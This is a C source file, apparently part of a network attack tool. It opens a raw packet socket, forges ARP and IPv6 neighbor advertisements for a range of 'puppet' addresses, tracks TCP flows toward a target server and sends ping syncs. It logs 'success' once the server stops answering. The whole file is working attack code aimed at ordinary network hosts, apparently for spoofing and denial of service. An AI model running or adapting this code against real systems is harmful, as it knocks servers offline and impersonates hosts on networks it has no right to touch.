/* SPDX-License-Identifier: MIT */
/* The link: frames are sent in groups, each followed by a ping whose answer
 * says that the server has taken them all; and what is heard. */
#include "attacker.h"

#include <errno.h>
#include <linux/filter.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum {
	SYNC_IP = 0x0a5101fa, /* 10.81.1.250 */
	SYNC_ID = 0x5359,
	SYNC_MS = 20, /* then once more */
	HEAR_AT_ONCE = 32,
};

/* ---- sending */

void flush(struct attack *a)
{
	struct mmsghdr msgs[GROUP] = { 0 };
	struct iovec iov[GROUP];
	u32 done = 0;

	for (u32 i = 0; i < a->nslots; i++) {
		iov[i] = (struct iovec){ a->slots[i].frame, a->slots[i].len };
		msgs[i].msg_hdr.msg_iov = &iov[i];
		msgs[i].msg_hdr.msg_iovlen = 1;
	}
	for (u32 tries = 0; done < a->nslots && tries < 1000;) {
		int n = sendmmsg(a->fd, msgs + done, a->nslots - done, 0);

		if (n > 0) {
			done += (u32)n;
			continue;
		}
		tries++;
		if (errno != ENOBUFS && errno != EAGAIN)
			done++; /* what the link does not take at all */
		else
			nanosleep(&(struct timespec){ .tv_nsec = 200000 },
				  NULL);
	}
	a->nslots = 0;
}

void put(struct attack *a, const void *frame, uint32_t len)
{
	struct slot *s = &a->slots[a->nslots++];

	s->len = min(len, (u32)FRAME_MAX);
	memcpy(s->frame, frame, s->len);
	a->sent++;
	a->unanswered++;
	if (a->nslots == GROUP)
		flush(a);
	if (a->unanswered >= GROUP && !a->syncing)
		sync_up(a);
}

void sync_up(struct attack *a)
{
	u64 until = now_ns() + LIMIT_S * 1000000000ull;

	if (a->gone)
		return;
	flush(a);
	a->syncing = true;
	a->sync++;
	while (a->sync_heard != a->sync && now_ns() < until) {
		send_icmp(a, SYNC_IP, a->v6 ? ICMP6_ECHO : ICMP_ECHO, 0,
			  (u32)SYNC_ID << 16 | a->sync, "", 0);
		a->sent--;
		flush(a);
		for (u64 t = now_ns() + SYNC_MS * 1000000ull;
		     a->sync_heard != a->sync && now_ns() < t;)
			hear(a, 1);
	}
	flush(a);
	a->syncing = false;
	a->unanswered = 0;
	if (a->sync_heard != a->sync) {
		success(a, "the server does not answer pings for %d s",
			LIMIT_S);
		a->gone = true;
	}
}

/* ---- hearing */

static bool is_puppet(u32 ip)
{
	return ip - PUPPET_NET < PUPPET_ADDRS || ip == SYNC_IP;
}

static void hear_arp(struct attack *a, const u8 *frame)
{
	const struct arp_hdr *arp = (const void *)(frame + ETH_LEN);
	u32 asked = be32_host(arp->tpa), from = be32_host(arp->spa);
	u8 answer[64];

	if (from == a->ix)
		memcpy(a->ix_mac, arp->sha, 6);
	if (from != a->ix || be16_host(arp->op) != ARP_REQUEST ||
	    !is_puppet(asked) || (a->silent_arp && asked != SYNC_IP))
		return;
	put(a, answer,
	    build_arp(a, answer, arp->sha, ARP_REPLY, a->mac, asked, a->ix));
}

/* The same of IPv6: solicitations to puppets; and the server's address. */
static void hear_nd(struct attack *a, const struct ipv6_hdr *ip,
		    const struct nd_hdr *nd, const u8 *mac)
{
	u32 asked = addr_of(nd->target);

	if (nd->type == ND_ADVERT && asked == a->ix)
		memcpy(a->ix_mac, mac, 6);
	if (nd->type != ND_SOLICIT || !is_puppet(asked) ||
	    (a->silent_arp && asked != SYNC_IP))
		return;
	send_nd(a, &(struct nd_lie){ .type = ND_ADVERT,
				     .flags = ND_F_SOLICITED | ND_F_OVERRIDE,
				     .src = nd->target,
				     .dst = ip->src,
				     .target = nd->target,
				     .option = ND_OPT_TARGET,
				     .mac = a->mac });
}

/* Of a client, or of the server to it. */
static void follow(struct attack *a, u32 from, const struct tcp_hdr *t, u32 len,
		   bool to_ix)
{
	struct attack_flow *f =
		&a->flows[be16_host(to_ix ? t->sport : t->dport)];
	u32 end = be32_host(t->seq) + len + !!(t->flags & (TCP_SYN | TCP_FIN));
	const u8 *ts = (const u8 *)(t + 1);
	struct be32 x;

	if (t->flags & TCP_SYN)
		*f = to_ix ? (struct attack_flow){ .to_ix = end } : *f;
	if (!to_ix) {
		f->answers++;
		if (t->flags & TCP_SYN || (s32)(end - f->to_client) > 0)
			f->to_client = end;
		return;
	}
	f->ip = from;
	if ((s32)(end - f->to_ix) > 0)
		f->to_ix = end;
	if (!(t->flags & TCP_SYN) && t->off >> 4 == 8) {
		memcpy(&x, ts + 4, 4);
		f->tsval = be32_host(x);
		memcpy(&x, ts + 8, 4);
		f->tsecr = be32_host(x);
		f->heard = true;
	}
}

struct heard {
	u32 src, dst, len; /* len: behind IP's header, as it says */
	u8 proto;
	const void *l4;
};

static void hear_icmp(struct attack *a, const struct heard *h)
{
	const struct icmp_hdr *icmp = h->l4;
	u8 reply = a->v6 ? ICMP6_ECHO_REPLY : ICMP_ECHO_REPLY;

	if (h->src != a->ix)
		return;
	if (h->dst == SYNC_IP && icmp->type == reply &&
	    be32_host(icmp->rest) >> 16 == SYNC_ID)
		a->sync_heard = (u16)be32_host(icmp->rest);
	a->errors +=
		a->v6 && is_puppet(h->dst) && icmp->type < ICMP6_ERRORS_END;
}

static void hear_tcp(struct attack *a, const struct heard *h)
{
	const struct tcp_hdr *t = h->l4;
	u32 len = h->len - (u32)(t->off >> 4) * 4;

	if (h->src == a->ix && is_puppet(h->dst))
		puppet_hears(a, h->dst, t, len);
	else if (h->src == a->ix || h->dst == a->ix)
		follow(a, h->src, t, len, h->dst == a->ix);
}

static void hear_ip(struct attack *a, const struct heard *h, u32 got)
{
	if (h->proto == (a->v6 ? IP_PROTO_ICMP6 : IP_PROTO_ICMP))
		hear_icmp(a, h);
	else if (h->proto == IP_PROTO_TCP && got >= head_len(a) + TCP_LEN)
		hear_tcp(a, h);
}

static void hear_ip4(struct attack *a, const struct ipv4_hdr *ip, u32 got)
{
	hear_ip(a,
		&(struct heard){ .src = be32_host(ip->src),
				 .dst = be32_host(ip->dst),
				 .len = be16_host(ip->len) - (u32)IPV4_LEN,
				 .proto = ip->proto,
				 .l4 = ip + 1 },
		got);
}

static void hear_ip6(struct attack *a, const u8 *frame, u32 got)
{
	const struct ipv6_hdr *ip = (const void *)(frame + ETH_LEN);

	if (ip->next == IP_PROTO_ICMP6 && got >= ETH_LEN + IPV6_LEN + ND_LEN)
		hear_nd(a, ip, (const void *)(ip + 1), frame + 6);
	hear_ip(a,
		&(struct heard){ .src = addr_of(ip->src),
				 .dst = addr_of(ip->dst),
				 .len = be16_host(ip->len),
				 .proto = ip->next,
				 .l4 = ip + 1 },
		got);
}

static void hear_frame(struct attack *a, const u8 *frame, u32 got)
{
	const struct eth_hdr *eth = (const void *)frame;
	u16 type = got < head_len(a) + ICMP_LEN ? 0 : be16_host(eth->type);

	if (type == ETH_TYPE_ARP)
		hear_arp(a, frame);
	else if (type == ETH_TYPE_IPV4 && !a->v6)
		hear_ip4(a, (const void *)(frame + ETH_LEN), got);
	else if (type == ETH_TYPE_IPV6 && a->v6)
		hear_ip6(a, frame, got);
}

void hear(struct attack *a, int ms)
{
	static u8 frames[HEAR_AT_ONCE][128]; /* headers are enough */
	struct mmsghdr msgs[HEAR_AT_ONCE];
	struct iovec iov[HEAR_AT_ONCE];
	struct pollfd p = { .fd = a->fd, .events = POLLIN };
	int n;

	for (int i = 0; i < HEAR_AT_ONCE; i++) {
		iov[i] = (struct iovec){ frames[i], sizeof(frames[i]) };
		msgs[i] = (struct mmsghdr){ .msg_hdr = { .msg_iov = &iov[i],
							 .msg_iovlen = 1 } };
	}
	if (ms)
		poll(&p, 1, ms);
	do {
		n = recvmmsg(a->fd, msgs, HEAR_AT_ONCE, MSG_DONTWAIT, NULL);
		for (int i = 0; i < n; i++)
			hear_frame(a, frames[i], msgs[i].msg_len);
	} while (n == HEAR_AT_ONCE);
	if (!a->syncing)
		flush(a);
}

/* The clients' large segments stay out: they would fill the socket, and small
 * ones tell where their connections stand. */
static void hear_less(const struct attack *a)
{
	enum { ALL = 128 }; /* bytes: headers */
	/* An address of IPv6 has that of IPv4 behind its first four bytes. */
	const u32 dst = ETH_LEN + (a->v6 ? 28 : 16);
	struct sock_filter code[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_LEN, 0),
		BPF_JUMP(BPF_JMP | BPF_JGT | BPF_K, 200, 0, 7),
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, ETH_LEN + 12), /* source */
		BPF_STMT(BPF_ALU | BPF_AND | BPF_K, ~(PUPPET_ADDRS - 1u)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, PUPPET_NET, 4, 0),
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, dst),
		BPF_STMT(BPF_ALU | BPF_AND | BPF_K, ~(PUPPET_ADDRS - 1u)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, PUPPET_NET, 1, 0),
		BPF_STMT(BPF_RET | BPF_K, 0),
		BPF_STMT(BPF_RET | BPF_K, ALL),
	};
	const struct sock_fprog p = { ARRAY_SIZE(code), code };

	setsockopt(a->fd, SOL_SOCKET, SO_ATTACH_FILTER, &p, sizeof(p));
}

/* Where is the server? */
static void ask(struct attack *a)
{
	if (a->v6)
		send_nd(a,
			&(struct nd_lie){ .type = ND_SOLICIT,
					  .src = addr6(SYNC_IP),
					  .dst = solicited_node(addr6(a->ix)),
					  .target = addr6(a->ix),
					  .option = ND_OPT_SOURCE,
					  .mac = a->mac });
	else
		send_arp(a, ARP_REQUEST, a->mac, SYNC_IP, a->ix);
}

int wire_open(struct attack *a, const char *iface)
{
	struct sockaddr_ll at = { .sll_family = AF_PACKET,
				  .sll_protocol = htons(ETH_P_ALL) };
	static const u8 everyone[6] = { 255, 255, 255, 255, 255, 255 };
	int room = 8 << 20;

	a->fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, htons(ETH_P_ALL));
	at.sll_ifindex = (int)if_nametoindex(iface);
	if (a->fd < 0 || !at.sll_ifindex ||
	    bind(a->fd, (void *)&at, sizeof(at)))
		return -errno;
	if (setsockopt(a->fd, SOL_SOCKET, SO_RCVBUFFORCE, &room, sizeof(room)))
		setsockopt(a->fd, SOL_SOCKET, SO_RCVBUF, &room, sizeof(room));
	hear_less(a);
	memcpy(a->mac, (u8[6]){ 2, 0x66, 0, 0, 0, 1 }, 6);
	memcpy(a->ix_mac, everyone, 6);
	for (int i = 0; i < 300 && a->ix_mac[0] == 255; i++) {
		ask(a);
		flush(a);
		hear(a, 20);
	}
	return a->ix_mac[0] == 255 ? -ETIMEDOUT : 0;
}
